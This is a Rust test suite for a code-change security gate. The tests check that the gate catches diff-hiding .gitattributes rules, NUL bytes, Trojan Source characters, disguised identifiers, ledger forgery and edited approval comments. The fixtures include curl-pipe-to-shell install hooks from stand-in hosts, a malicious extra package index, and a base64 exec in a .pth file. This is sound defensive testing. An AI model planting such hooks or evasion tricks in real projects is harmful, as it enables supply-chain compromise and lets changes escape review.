//! Trust holes (issue 16): a change must not be able to hide itself from the gate, forge a
//! decision or get a secret echoed. Real git repositories in temp dirs; each test failed
//! before its fix.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::common::{check_json, guardrail, TempRepo};

const LOCK_OK: &str = "version = 3\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\n \"regex\",\n]\n\n[[package]]\nname = \"regex\"\nversion = \"1.5.5\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"1a11647b6b25ff05a515cb92c365cec08801e83423a235b51e231e1808747286\"\n";

fn rustsec_db(dir: &Path) -> PathBuf {
    let db = dir.join("db");
    let out = guardrail(dir)
        .args(["db", "import", "--db"])
        .arg(&db)
        .arg(crate::common::shared_data().join("rustsec-advisory-db.tar.gz"))
        .output()
        .expect("run");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    db
}

fn rules_of(findings: &[Value]) -> Vec<String> {
    findings
        .iter()
        .map(|f| {
            format!(
                "{}@{}:{}",
                f["rule"].as_str().unwrap_or(""),
                f["path"].as_str().unwrap_or(""),
                f["line"]
            )
        })
        .collect()
}

fn has(findings: &[Value], rule: &str, path: &str) -> bool {
    findings
        .iter()
        .any(|f| f["rule"] == rule && f["path"] == path)
}

/// Item 1: `.gitattributes` (`-diff`, `binary`) added by the change or already at the base
/// does not turn code or a lockfile into "binary files differ" for the gate, and the change
/// that adds such attributes is reported.
#[test]
fn gitattributes_cannot_make_code_or_lockfiles_binary() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let db = rustsec_db(tmp.path());
    let r = TempRepo::new();
    r.write("Cargo.lock", LOCK_OK);
    r.write(".gitattributes", "Cargo.lock -diff\n");
    r.write("app/run.py", "import subprocess\n");
    r.commit("base");
    r.write(
        ".gitattributes",
        "Cargo.lock -diff\napp/** -diff\n*.py binary\n",
    );
    r.write(
        "app/run.py",
        "import subprocess\n\ndef go(c):\n    subprocess.run(c, shell=True)\n",
    );
    r.write("Cargo.lock", LOCK_OK.replace("1.5.5", "1.1.5"));
    r.commit("hide");
    let db = db.to_string_lossy().into_owned();
    let (code, findings, err) = check_json(&r, &["--db", &db]);
    let rules = rules_of(&findings);
    assert_eq!(code, 1, "{rules:?}\n{err}");
    assert!(
        findings
            .iter()
            .any(|f| f["path"] == "app/run.py" && f["line"] == 4 && f["severity"] == "red"),
        "the shell=True call is read: {rules:?}"
    );
    assert!(
        has(&findings, "RUSTSEC-2022-0013", "Cargo.lock"),
        "the lockfile is read: {rules:?}"
    );
    let attr = findings
        .iter()
        .find(|f| f["rule"] == "gitattributes-hides-diff")
        .unwrap_or_else(|| panic!("the attribute edit is reported: {rules:?}"));
    assert_eq!(attr["severity"], "yellow");
    assert_eq!(attr["kind"], "agent");
    assert_eq!(attr["line"], 2, "the first added line that hides diffs");
    assert!(!err.contains("binary"), "nothing skipped as binary: {err}");
}

/// Item 2: a NUL byte in a comment does not make a source file or a requirements file
/// "binary": both are read, and the NUL itself is reported; a real binary is still skipped.
#[test]
fn nul_byte_in_source_or_requirements_is_read_as_text_and_reported() {
    let r = TempRepo::new();
    r.write("web/app.js", "const x = 1;\n");
    r.write("requirements.txt", "flask==3.0.0\n");
    r.commit("base");
    r.write(
        "web/app.js",
        b"const x = 1;\n// \0 hidden\nconst f = eval(req.query.code);\n".as_slice(),
    );
    r.write(
        "requirements.txt",
        b"flask==3.0.0\n# \0\n--extra-index-url https://pypi.evil.example/simple\n".as_slice(),
    );
    r.write("logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".as_slice());
    r.commit("nul");
    let (code, findings, err) = check_json(&r, &["--offline"]);
    let rules = rules_of(&findings);
    assert_eq!(code, 1, "{rules:?}\n{err}");
    assert!(
        findings
            .iter()
            .any(|f| f["path"] == "web/app.js" && f["line"] == 3 && f["severity"] == "red"),
        "eval on request input is read: {rules:?}"
    );
    assert!(
        findings
            .iter()
            .any(|f| f["path"] == "requirements.txt" && f["kind"] == "supply-chain"),
        "the extra index is read: {rules:?}"
    );
    for p in ["web/app.js", "requirements.txt"] {
        assert!(has(&findings, "nul-byte-in-source", p), "{p}: {rules:?}");
    }
    assert!(
        !has(&findings, "nul-byte-in-source", "logo.png"),
        "{rules:?}"
    );
    assert!(
        err.contains("logo.png"),
        "the real binary is skipped with a note: {err}"
    );
}

/// Item 3: bidi controls (Trojan Source) are red in any language; Python identifiers in
/// full-width or mathematical letters are matched as Python runs them (NFKC) and reported.
#[test]
fn trojan_source_and_nfkc_identifiers_are_caught() {
    let r = TempRepo::new();
    r.write("a.py", "import subprocess\n");
    r.write("b.rs", "fn main() {}\n");
    r.write("c.py", "x = 1\n");
    r.commit("base");
    r.write(
        "a.py",
        "import subprocess\nimport ｓｕｂｐｒｏｃｅｓｓ\n\ndef go(c):\n    ｓｕｂｐｒｏｃｅｓｓ.run(c, ｓｈｅｌｌ=True)\n",
    );
    r.write(
        "b.rs",
        "fn main() {\n    let access_level = \"user\u{202E} \u{2066}// Check if admin\u{2069} \u{2066}\";\n}\n",
    );
    r.write("c.py", "x = 1\ny = 𝐞𝐯𝐚𝐥(input())\n");
    r.commit("unicode");
    let (code, findings, err) = check_json(&r, &["--offline"]);
    let rules = rules_of(&findings);
    assert_eq!(code, 1, "{rules:?}\n{err}");
    let bidi = findings
        .iter()
        .find(|f| f["rule"] == "bidi-control-character")
        .unwrap_or_else(|| panic!("{rules:?}"));
    assert_eq!(
        (bidi["path"].as_str(), bidi["line"].as_i64()),
        (Some("b.rs"), Some(2))
    );
    assert_eq!(bidi["severity"], "red");
    assert!(
        findings.iter().any(|f| f["path"] == "a.py"
            && f["line"] == 5
            && f["severity"] == "red"
            && f["kind"] == "code"),
        "the folded subprocess call matches its rule: {rules:?}"
    );
    assert!(
        findings
            .iter()
            .any(|f| f["path"] == "c.py" && f["line"] == 2 && f["kind"] == "code"),
        "the folded eval matches its rule: {rules:?}"
    );
    assert!(
        has(&findings, "identifier-folds-to-ascii", "a.py"),
        "{rules:?}"
    );
    assert!(
        has(&findings, "identifier-folds-to-ascii", "c.py"),
        "{rules:?}"
    );
}

/// Item 4: a suppression already at the base hides only the line it was written for: not a
/// new finding added under a comment, docstring or string that happens to say `nosemgrep`.
/// Re-indenting a suppressed line keeps its suppression.
#[test]
fn base_suppression_covers_only_its_own_line() {
    let r = TempRepo::new();
    r.write(
        "app.py",
        "import subprocess\n\ndef a(c):\n    \"\"\"Handles it. nosemgrep\"\"\"\n    return 1\n\ndef b(c):\n    subprocess.run(c, shell=True)  # nosemgrep\n\ndef d(c):\n    y = len(c)  # nosemgrep\n    return y\n",
    );
    r.commit("base");
    // A new dangerous line right under the docstring that mentions `nosemgrep`, and the old
    // suppressed call re-indented inside an `if`.
    r.write(
        "app.py",
        "import subprocess\n\ndef a(c):\n    \"\"\"Handles it. nosemgrep\"\"\"\n    subprocess.run(c, shell=True)\n    return 1\n\ndef b(c):\n    if c:\n        subprocess.run(c, shell=True)  # nosemgrep\n\ndef d(c):\n    y = len(c)  # nosemgrep\n    return subprocess.run(c, shell=True)\n",
    );
    r.commit("hide under an old comment");
    let (code, findings, err) = check_json(&r, &["--offline"]);
    let rules = rules_of(&findings);
    assert_eq!(code, 1, "{rules:?}\n{err}");
    assert!(
        findings
            .iter()
            .any(|f| f["line"] == 5 && f["severity"] == "red" && f["kind"] == "code"),
        "the new call under the docstring is not suppressed: {rules:?}"
    );
    assert!(
        findings
            .iter()
            .any(|f| f["line"] == 14 && f["severity"] == "red" && f["kind"] == "code"),
        "a trailing suppression on the line above covers only its own line: {rules:?}"
    );
    assert!(
        !findings
            .iter()
            .any(|f| f["line"] == 10 && f["kind"] == "code"),
        "the re-indented suppressed call stays suppressed: {rules:?}"
    );
}

fn git_in(dir: &Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .output()
        .expect("git");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Item 12: identical runs in the same second used to build byte-identical commits, so the
/// second push was "up to date" and its entry lost. 16 writers x 20 identical appends into
/// one bare remote: exactly 320 entries, and the shared ledger verifies.
#[test]
fn sixteen_writers_of_identical_entries_lose_nothing_on_a_git_remote() {
    const PROCS: usize = 16;
    const EACH: usize = 20;
    let dir = tempfile::tempdir().expect("tempdir");
    git_in(dir.path(), &["init", "-q", "--bare", "remote.git"]);
    for k in 0..PROCS {
        git_in(dir.path(), &["clone", "-q", "remote.git", &format!("w{k}")]);
    }
    let children: Vec<_> = (0..PROCS)
        .map(|k| {
            let mut c = std::process::Command::new(assert_cmd::cargo::cargo_bin("guardrail"));
            c.current_dir(dir.path().join(format!("w{k}")))
                .env_remove("GUARDRAIL_LEDGER")
                .args([
                    "ledger",
                    "debug-append",
                    "--ledger",
                    "git:refs/guardrail/ledger",
                    "--label",
                    "same",
                    "--count",
                    &EACH.to_string(),
                ])
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped());
            c.spawn().expect("spawn")
        })
        .collect();
    for c in children {
        let out = c.wait_with_output().expect("wait");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let remote = dir.path().join("remote.git");
    let text = git_in(&remote, &["show", "refs/guardrail/ledger:ledger.jsonl"]);
    let lines = guardrail::ledger::chain::verify(text.as_bytes()).expect("chain valid");
    assert_eq!(
        lines.len(),
        PROCS * EACH,
        "every append is in the remote ledger"
    );
    let ids: std::collections::HashSet<&str> = lines
        .iter()
        .filter_map(|l| l.entry["id"].as_str())
        .collect();
    assert_eq!(ids.len(), PROCS * EACH, "every entry has its own id");
    let w0 = dir.path().join("w0");
    git_in(
        &w0,
        &[
            "fetch",
            "-q",
            "origin",
            "+refs/guardrail/ledger:refs/guardrail/ledger",
        ],
    );
    guardrail(&w0)
        .args(["ledger", "verify", "git:refs/guardrail/ledger"])
        .assert()
        .code(0)
        .stdout(predicates::str::contains("320 entries"));
}

/// Item 13: a ledger rewritten with recomputed hashes and its checkpoints deleted no longer
/// verifies with a key; old entries must be covered by a checkpoint; and a git-ref ledger
/// moved forward onto a rewritten ledger fails even though the tip's chain is intact.
#[test]
fn rewritten_ledgers_do_not_verify_with_a_key_or_through_git_history() {
    use guardrail::ledger::chain;
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    guardrail(d)
        .args([
            "ledger",
            "debug-append",
            "--ledger",
            "l.jsonl",
            "--count",
            "4",
        ])
        .assert()
        .code(0);
    guardrail(d)
        .args(["ledger", "keygen", "--out", "k"])
        .assert()
        .code(0);
    guardrail(d)
        .args([
            "ledger",
            "checkpoint",
            "--key",
            "k.key",
            "--ledger",
            "l.jsonl",
        ])
        .assert()
        .code(0);
    guardrail(d)
        .args(["ledger", "verify", "l.jsonl", "--pubkey", "k.pub"])
        .assert()
        .code(0);
    // Rewrite entry 2 and re-chain everything after it, then drop the checkpoints.
    let rechain = |bytes: &[u8], label: &str| -> Vec<u8> {
        let lines = chain::verify(bytes).expect("valid");
        let mut prev = [0u8; 32];
        let mut out = Vec::new();
        for (i, l) in lines.iter().enumerate() {
            let mut e = l.entry.clone();
            if i == 1 {
                e["label"] = Value::from(label);
            }
            let (line, h) = chain::make_line(&prev, &e).expect("canonical");
            out.extend_from_slice(&line);
            prev = h;
        }
        out
    };
    let good = std::fs::read(d.join("l.jsonl")).expect("read");
    std::fs::write(d.join("l.jsonl"), rechain(&good, "forged")).expect("write");
    std::fs::remove_file(d.join("l.checkpoints")).expect("rm");
    guardrail(d)
        .args(["ledger", "verify", "l.jsonl"])
        .assert()
        .code(0);
    let out = guardrail(d)
        .args(["ledger", "verify", "l.jsonl", "--pubkey", "k.pub"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("no signed checkpoints"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::write(d.join("l.checkpoints"), "").expect("write");
    guardrail(d)
        .args(["ledger", "verify", "l.jsonl", "--pubkey", "k.pub"])
        .assert()
        .code(1);
    // Entries past the last checkpoint: fine while young, a failure once older than the window.
    std::fs::write(d.join("l.jsonl"), &good).expect("write");
    guardrail(d)
        .args([
            "ledger",
            "checkpoint",
            "--key",
            "k.key",
            "--ledger",
            "l.jsonl",
        ])
        .assert()
        .code(0);
    let old = "{\"i\":9,\"id\":\"00\",\"label\":\"old\",\"ts\":\"2020-01-01T00:00:00Z\",\"type\":\"note\",\"v\":1}";
    let lines = chain::verify(&good).expect("valid");
    let last = lines.last().expect("lines").hash;
    let (line, _) =
        chain::make_line(&last, &serde_json::from_str(old).expect("json")).expect("line");
    let mut longer = good.clone();
    longer.extend_from_slice(&line);
    std::fs::write(d.join("l.jsonl"), &longer).expect("write");
    let out = guardrail(d)
        .args(["ledger", "verify", "l.jsonl", "--pubkey", "k.pub"])
        .output()
        .expect("run");
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("entry 5"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    guardrail(d)
        .args([
            "ledger",
            "verify",
            "l.jsonl",
            "--pubkey",
            "k.pub",
            "--checkpoint-window",
            "100000d",
        ])
        .assert()
        .code(0);

    // git:REF: a commit that moves the ref onto a rewritten (re-chained) ledger.
    let r = TempRepo::new();
    r.commit("init");
    guardrail(r.path())
        .args([
            "ledger",
            "debug-append",
            "--ledger",
            "git:refs/guardrail/ledger",
            "--count",
            "3",
        ])
        .assert()
        .code(0);
    guardrail(r.path())
        .args(["ledger", "verify", "git:refs/guardrail/ledger"])
        .assert()
        .code(0);
    let tip = r.git(&["rev-parse", "refs/guardrail/ledger"]);
    let current = r.git(&["show", "refs/guardrail/ledger:ledger.jsonl"]);
    let forged = rechain(format!("{current}\n").as_bytes(), "forged");
    std::fs::write(r.path().join("forged.jsonl"), &forged).expect("write");
    let blob = r.git(&["hash-object", "-w", "forged.jsonl"]);
    let tree = {
        let out = std::process::Command::new("git")
            .args(["mktree"])
            .current_dir(r.path())
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .and_then(|mut c| {
                use std::io::Write;
                if let Some(mut i) = c.stdin.take() {
                    i.write_all(format!("100644 blob {blob}\tledger.jsonl\n").as_bytes())?;
                }
                c.wait_with_output()
            })
            .expect("mktree");
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    };
    let commit = r.git(&[
        "commit-tree",
        &tree,
        "-p",
        &tip,
        "-m",
        "guardrail ledger append",
    ]);
    r.git(&["update-ref", "refs/guardrail/ledger", &commit]);
    let out = guardrail(r.path())
        .args(["ledger", "verify", "git:refs/guardrail/ledger"])
        .output()
        .expect("run");
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(&commit),
        "names the commit: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Item 9 (GitHub): a decision is the comment as first written. A reviewer's reject edited
/// into an accept (anyone with write access can edit it) does not flip block to pass: the
/// edited comment is refused with a reply, the refusal is logged, and every decision in the
/// ledger names the comment and the sha256 of its body.
#[test]
fn an_edited_decision_comment_on_github_is_refused_and_logged() {
    use crate::forge_github::{Env, YELLOW_FILE};
    let env = Env::new(YELLOW_FILE);
    let (code, report, stderr) = env.run();
    assert_eq!(code, 3, "{stderr}");
    let fps = env.fingerprints(&report);
    env.state().reply(
        &fps[0],
        "maint-bob",
        "User",
        "/guardrail reject ctx is user input",
    );
    let (code, _, stderr) = env.run();
    assert_eq!(code, 1, "rejected: {stderr}");
    let reject_body = "/guardrail reject ctx is user input";
    let rejected = env
        .ledger_decisions()
        .into_iter()
        .find(|d| d["decision"] == "reject")
        .expect("reject logged");
    assert_eq!(
        rejected["comment_sha256"].as_str(),
        Some(guardrail::finding::sha256_hex(reject_body.as_bytes()).as_str())
    );
    let comment_id = rejected["comment_id"]
        .as_str()
        .expect("comment id")
        .to_owned();
    // Someone edits the reviewer's comment into an acceptance.
    {
        let mut s = env.state();
        let c = s
            .review_comments
            .iter_mut()
            .find(|c| c["id"].as_u64() == comment_id.parse::<u64>().ok())
            .expect("the reviewer's comment");
        c["body"] = Value::from("/guardrail accept fine after all");
        c["updated_at"] = Value::from("2026-11-21T11:30:00Z");
    }
    env.state().log.clear();
    let (code, report, stderr) = env.run();
    assert_ne!(code, 0, "the edit does not pass the change: {stderr}");
    assert_ne!(report["verdict"], "pass");
    {
        let s = env.state();
        assert!(
            s.statuses.iter().all(|st| st["state"] != "success"),
            "{:?}",
            s.statuses
        );
        let answered = s.review_comments.iter().any(|c| {
            c["body"].as_str().is_some_and(|b| {
                b.contains(&format!("guardrail:ack={comment_id}-edited")) && b.contains("edited")
            })
        });
        assert!(answered, "a reply says why the edit is refused");
    }
    let refused: Vec<Value> = env
        .ledger_decisions()
        .into_iter()
        .filter(|d| d["decision"] == "refused" && d["comment_id"] == comment_id.as_str())
        .collect();
    assert_eq!(refused.len(), 1, "the refusal is logged once");
    assert!(refused[0]["refused_because"]
        .as_str()
        .is_some_and(|r| r.contains("edited")));
    assert_eq!(
        refused[0]["comment_sha256"].as_str(),
        Some(guardrail::finding::sha256_hex(b"/guardrail accept fine after all").as_str())
    );
    // Running again changes nothing more.
    let (_, _, _) = env.run();
    assert_eq!(
        env.ledger_decisions()
            .iter()
            .filter(|d| d["decision"] == "refused")
            .count(),
        1
    );
}

/// Item 10: decide, append to the ledger, then publish. When the ledger cannot be appended
/// to, the run exits 2 and the required status is `error`, never `success`.
#[test]
fn a_failed_ledger_append_publishes_error_not_success() {
    use crate::forge_github::Env;
    let env = Env::new("import json\n\ndef run(expr, ctx):\n    return json.loads(expr)\n");
    // A torn last line: the next append is refused.
    std::fs::write(&env.ledger, b"{\"entry\":{\"type\":\"ru").expect("write");
    let (code, _, stderr) = env.run();
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("audit ledger"), "{stderr}");
    let s = env.state();
    assert!(!s.statuses.is_empty(), "a status is set");
    assert!(
        s.statuses.iter().all(|st| st["state"] == "error"),
        "{:?}",
        s.statuses
    );
    assert!(
        s.check_runs.iter().all(|r| r["conclusion"] != "success"),
        "{:?}",
        s.check_runs
    );
}

/// Item 15: the per-file size limit counts bytes (line endings too, so many short lines are
/// no way around it), a diff whose lines end in lone CRs is an error rather than an empty
/// change, and `--config` naming a FIFO is refused instead of hanging.
#[test]
fn size_limit_counts_bytes_lone_cr_diffs_and_fifo_configs_are_refused() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    std::fs::write(d.join("small.yml"), "limits:\n  max-file-bytes: 1000\n").expect("write");
    // 600 one-character lines: 600 bytes of content, 1,200 bytes of file.
    let mut diff = String::from("diff --git a/a.txt b/a.txt\nnew file mode 100644\n--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1,600 @@\n");
    for _ in 0..600 {
        diff.push_str("+x\n");
    }
    std::fs::write(d.join("short-lines.diff"), &diff).expect("write");
    let out = guardrail(d)
        .args([
            "check",
            "--offline",
            "--no-ledger",
            "--diff",
            "short-lines.diff",
            "--config",
            "small.yml",
        ])
        .output()
        .expect("run");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("max-file-bytes") && err.contains("a.txt"),
        "{err}"
    );

    let lone =
        "diff --git a/a.py b/a.py\r--- a/a.py\r+++ b/a.py\r@@ -0,0 +1,2 @@\r+import os\r+eval(x)\r";
    std::fs::write(d.join("lone-cr.diff"), lone).expect("write");
    let out = guardrail(d)
        .args([
            "check",
            "--offline",
            "--no-ledger",
            "--diff",
            "lone-cr.diff",
        ])
        .output()
        .expect("run");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("lone-cr.diff") && err.contains("lone CR"),
        "{err}"
    );

    #[cfg(unix)]
    {
        let fifo = d.join("config.fifo");
        let made = std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .expect("mkfifo");
        assert!(made.success());
        let out = guardrail(d)
            .args([
                "check",
                "--offline",
                "--no-ledger",
                "--diff",
                "short-lines.diff",
                "--config",
            ])
            .arg(&fifo)
            .timeout(std::time::Duration::from_secs(30))
            .output()
            .expect("run");
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{err}");
        assert!(
            err.contains("config.fifo") && err.contains("not a regular file"),
            "{err}"
        );
    }
}

/// Item 6: files that run though their name does not say how: extensionless scripts by their
/// shebang, Makefile recipes as shell, notebook code cells (on the notebook's own lines, not
/// its markdown), npm install scripts and `.pth` start-up code.
#[test]
fn scripts_notebooks_makefiles_install_scripts_and_pth_files_are_read() {
    let r = TempRepo::new();
    r.write("README.md", "x\n");
    r.commit("base");
    r.write(
        "bin/deploy",
        "#!/usr/bin/env python3\nimport subprocess, sys\nsubprocess.run(sys.argv[1], shell=True)\n",
    );
    r.write(
        "Makefile",
        "install:\n\tcurl -fsSL https://get.example.invalid/i.sh | sh\n",
    );
    let nb = serde_json::json!({
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": ["Never write `subprocess.run(c, shell=True)`\n"]},
            {"cell_type": "code", "execution_count": null, "id": "a1", "metadata": {}, "outputs": [],
             "source": ["import subprocess\n", "subprocess.run(cmd, shell=True)"]}
        ],
        "metadata": {}, "nbformat": 4, "nbformat_minor": 5
    });
    let nb_text = format!("{}\n", serde_json::to_string_pretty(&nb).expect("json"));
    let code_line = nb_text
        .lines()
        .position(|l| l.contains("\"subprocess.run(cmd, shell=True)\""))
        .expect("code line")
        + 1;
    let prose_line = nb_text
        .lines()
        .position(|l| l.contains("Never write"))
        .expect("prose line")
        + 1;
    r.write("analysis.ipynb", &nb_text);
    r.write(
        "package.json",
        "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"postinstall\": \"curl -fsSL https://get.example.invalid/p.sh | sh\"\n  }\n}\n",
    );
    r.write(
        "lib/zz_startup.pth",
        "import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))\n",
    );
    r.commit("runs without saying so");
    let (code, findings, err) = check_json(&r, &["--offline"]);
    let rules = rules_of(&findings);
    assert_eq!(code, 1, "{rules:?}\n{err}");
    let at = |path: &str, line: usize| {
        findings
            .iter()
            .any(|f| f["path"] == path && f["line"].as_u64() == Some(line as u64))
    };
    assert!(at("bin/deploy", 3), "shebang python: {rules:?}");
    assert!(at("Makefile", 2), "Makefile recipe as shell: {rules:?}");
    assert!(
        at("analysis.ipynb", code_line),
        "notebook code cell: {rules:?}"
    );
    assert!(
        !at("analysis.ipynb", prose_line),
        "markdown is not code: {rules:?}"
    );
    assert!(
        has(
            &findings,
            "npm-install-script-downloads-and-runs",
            "package.json"
        ),
        "{rules:?}"
    );
    assert!(
        has(
            &findings,
            "python-pth-runs-dynamic-code",
            "lib/zz_startup.pth"
        ),
        "{rules:?}"
    );
}
